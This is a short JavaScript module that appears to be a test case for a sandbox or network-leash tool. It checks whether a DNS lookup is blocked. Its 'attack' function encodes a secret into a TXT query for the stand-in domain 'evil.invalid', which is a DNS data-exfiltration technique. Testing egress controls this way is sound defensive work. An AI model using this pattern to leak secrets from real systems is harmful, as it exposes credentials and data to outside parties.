// dns.promises.Resolver with a custom server.
import { Resolver } from 'node:dns/promises';
export const meta = { kind: 'dns', evidence: 'udp' };
export default async function attack(ctx) {
  const resolver = new Resolver({ timeout: 200, tries: 1 });
  resolver.setServers([`127.0.0.1:${ctx.udpPort}`]);
  try {
    await resolver.resolveTxt(`${ctx.secret}.evil.invalid`);
  } catch (error) {
    if (error.code === 'ERR_LEASH_DENIED') throw error;
  }
  return 'queried';
}
